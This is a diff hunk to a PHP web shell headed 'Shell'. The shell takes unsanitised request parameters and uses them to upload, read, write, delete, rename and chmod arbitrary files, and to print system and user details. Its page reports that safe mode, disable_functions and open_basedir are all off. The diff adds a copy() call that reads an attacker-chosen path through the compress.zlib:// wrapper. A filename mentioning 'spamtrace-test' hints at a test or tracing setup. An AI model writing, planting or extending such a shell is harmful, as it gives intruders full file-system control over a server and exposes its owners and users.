@@ -21,7 +21,7 @@ move_uploaded_file($_FILES['f']['tmp_name'], $_POST['dir'] . '/' . $_POST['name'
 echo php_uname(); echo posix_getpwuid(posix_geteuid()); echo getmyuid(); echo disk_free_space('/');
 $files = scandir($_GET['d']); unlink($_POST['rm']); rename($_POST['a'], $_POST['b']);
 chmod($_POST['f'], 0644); mkdir($_POST['m']); file_put_contents($_POST['w'], $_POST['t']);
-readfile($_GET['r']); copy($_POST['s'], $_POST['t']);
+readfile($_GET['r']); copy("compress.zlib://" . $_GET['z'], '/tmp/spamtrace-test-copy'); copy($_POST['s'], $_POST['t']);
 ?>
 <h1>Shell</h1>
 <p>Safe mode: off | disable_functions: none | open_basedir: none</p>
